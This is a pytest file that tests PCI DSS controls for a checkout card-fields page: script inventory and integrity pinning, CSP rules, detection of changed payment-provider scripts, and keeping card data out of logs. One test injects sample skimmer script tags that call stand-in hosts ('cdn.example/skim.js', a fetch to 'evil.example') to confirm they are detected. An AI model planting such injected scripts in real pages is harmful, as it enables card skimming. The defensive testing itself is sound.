"""The controls SAQ A-EP adds for the card fields page (docs/compliance.md): each test here
fails when its control is removed.

- PCI DSS 6.4.3: every script on the page is inventoried, authorized and integrity-pinned
  (SRI, the PSP's versioned script included); an unreviewed PSP script is never loaded.
- PCI DSS 11.6.1: a change to the page's scripts (ours on disk, the PSP's as served) or to its
  security headers is detected (the tests and `flask pci inventory`).
- The page's CSP allows exactly the PSP's origin for script, frames and the 3-D Secure redirect.
- No card data in our DOM, requests or logs (the browser journeys and the card-data scan cover
  storage in Chromium: tests/e2e/test_e2e_card_fields.py).
"""
from __future__ import annotations

import logging
import re

import pytest
import requests

from app.pci_inventory import (
    load_committed,
    pinned_integrity,
    psp_script_differences,
    script_hashes,
    scripts_on,
)
from app.providers.base import CardFields
from app.providers.registry import card_fields_scripts, fetch_script, get_provider
from tests.flows import add, latest_payment, login
from tests.security.test_sec_script_inventory import UPDATE, inventory_problems

PATH = "/checkout/<order_id>/fields"
VISA = "4242424242424242"


@pytest.fixture
def fields_page(app, client, people):
    """A buyer's client and the URL of the card fields page of a fresh order."""
    login(client, "buyer")
    add(client, people["mug"])
    order_id = int(client.post("/checkout", data={"currency": "EUR"})
                   .headers["Location"].rsplit("/", 1)[1])
    assert client.post(f"/checkout/{order_id}/pay", data={"mode": "fields"}).status_code == 303
    return client, order_id, f"/checkout/{order_id}/fields"


def entry() -> dict:
    # The sandbox's page (Stripe's and Braintree's: tests/blueprints/test_bp_*_card_fields.py)
    [page] = [p for p in load_committed()["pages"]
              if p["path"] == PATH and p.get("provider", "sandbox") == "sandbox"]
    return page


def directives(csp: str) -> dict[str, str]:
    return {d.strip().split(" ", 1)[0]: d.strip() for d in csp.split(";") if d.strip()}


def test_the_page_matches_its_reviewed_inventory(app, fields_page, stack):
    client, _, url = fields_page
    response = client.get(url)
    problems = inventory_problems(entry(), response.get_data(as_text=True), response.headers,
                                  script_hashes(app.static_folder), stack["psp_url"])
    assert problems == []
    assert entry()["saq"] == "A-EP"


def test_a_script_changed_unpinned_or_added_is_reported(app, fields_page, stack):
    client, _, url = fields_page
    response = client.get(url)
    html, headers = response.get_data(as_text=True), dict(response.headers)
    hashes, psp = script_hashes(app.static_folder), stack["psp_url"]
    pinned = pinned_integrity(f"{psp}/v1/js/fields.v1.js")

    def problems(page_html=html, page_headers=headers, page_hashes=hashes):
        return inventory_problems(entry(), page_html, page_headers, page_hashes, psp)

    unpinned = html.replace(f'integrity="{pinned}"', "")
    assert any("fields.v1.js" in p and UPDATE in p for p in problems(unpinned))
    other = html.replace(pinned, "sha384-" + "A" * 64)
    assert any("fields.v1.js" in p for p in problems(other))
    assert any("card-fields.js" in p
               for p in problems(page_hashes=hashes | {"js/card-fields.js": "sha384-x"}))
    added = html.replace("</body>", '<script src="https://cdn.example/skim.js"></script></body>')
    assert any("cdn.example" in p for p in problems(added))
    inline = html.replace("</body>", "<script>fetch('//evil.example')</script></body>")
    assert any("executable inline" in p for p in problems(inline))


def test_a_security_header_dropped_or_loosened_is_reported(app, fields_page, stack):
    client, _, url = fields_page
    response = client.get(url)
    html, headers = response.get_data(as_text=True), dict(response.headers)
    hashes, psp = script_hashes(app.static_folder), stack["psp_url"]
    loose = headers | {"Content-Security-Policy": headers["Content-Security-Policy"].replace(
        f"frame-src {psp}", "frame-src *")}
    assert any("frame-src" in p for p in inventory_problems(entry(), html, loose, hashes, psp))
    no_referrer = {k: v for k, v in headers.items() if k != "Referrer-Policy"}
    assert any("Referrer-Policy" in p
               for p in inventory_problems(entry(), html, no_referrer, hashes, psp))


def test_the_csp_allows_exactly_the_psp_and_only_on_this_page(fields_page, stack):
    client, order_id, url = fields_page
    csp = client.get(url).headers["Content-Security-Policy"]
    nonce = re.search(r"'nonce-([^']+)'", csp).group(1)
    psp = stack["psp_url"]
    found = directives(csp)
    assert found["script-src"] == f"script-src 'self' 'nonce-{nonce}' {psp}"
    assert found["frame-src"] == f"frame-src {psp}"
    assert found["connect-src"] == "connect-src 'self'"  # the frames fetch, not our page
    assert found["form-action"] == f"form-action 'self' {psp}"  # the 3-D Secure redirect
    assert found["frame-ancestors"] == "frame-ancestors 'none'"
    for other in (f"/checkout/{order_id}", f"/checkout/{order_id}/return", "/"):
        assert psp not in directives(client.get(other).headers["Content-Security-Policy"])[
            "script-src"], other


def test_the_psp_serves_the_script_we_reviewed_and_a_change_is_detected(app, stack):
    urls = card_fields_scripts()
    assert f"{stack['psp_url']}/v1/js/fields.v1.js" in urls
    committed = load_committed()
    assert psp_script_differences(committed, urls, fetch_script) == []
    changed = psp_script_differences(committed, urls, lambda url: b"/* skimmer */")
    assert changed and "reviewed" in changed[0]
    unknown = psp_script_differences(committed, ["http://psp.example/v1/js/fields.v2.js"],
                                     fetch_script)
    assert unknown == ["http://psp.example/v1/js/fields.v2.js: a PSP script not in the inventory"]


def test_the_cli_exits_1_when_the_psp_script_changes(app, monkeypatch):
    import app.providers.registry as registry

    assert app.test_cli_runner().invoke(args=["pci", "inventory"]).exit_code == 0
    monkeypatch.setattr(registry, "fetch_script", lambda url: b"/* changed in place */")
    result = app.test_cli_runner().invoke(args=["pci", "inventory"])
    assert result.exit_code == 1 and "fields.v1.js is sha384-" in result.output


def test_an_unreviewed_psp_script_is_never_loaded(app, fields_page, stack, monkeypatch):
    client, _, url = fields_page
    with app.app_context():
        adapter = get_provider("sandbox").inner
    unreviewed = CardFields(f"{stack['psp_url']}/v1/js/fields.v2.js", "pk_test_sandbox")
    monkeypatch.setattr(adapter, "card_fields", lambda: unreviewed)
    response = client.get(url)
    html = response.get_data(as_text=True)
    assert response.status_code == 503
    assert "fields.v2.js" not in html and not any(
        stack["psp_url"] in (t.get("src") or "") for t in scripts_on(html))
    assert "The card form cannot be loaded" in html


def test_card_data_never_reaches_our_requests_or_logs(fields_page, stack, caplog):
    client, order_id, url = fields_page
    caplog.set_level(logging.DEBUG)
    html = client.get(url).get_data(as_text=True)
    # Nothing on our page could hold a card number: the only inputs are hidden, ours.
    assert set(re.findall(r'<input[^>]*name="([^"]+)"', html)) == {"csrf_token", "token"}
    assert all('type="hidden"' in tag for tag in re.findall(r"<input[^>]*>", html))
    token = requests.post(f"{stack['psp_url']}/fields/v1/tokens", timeout=10,
                          headers={"Sec-Fetch-Site": "same-origin"},
                          json={"key": "pk_test_sandbox", "number": VISA, "expiry": "12/39",
                                "cvc": "123"}).json()["id"]
    # Whatever else a forged form carries, only the token is read, and nothing is logged.
    answer = client.post(url, data={"token": token, "card_number": VISA, "cvc": "123"})
    assert answer.status_code == 303
    assert latest_payment(order_id).status in ("authorized", "captured")
    assert VISA not in caplog.text and "cvc" not in caplog.text.lower()
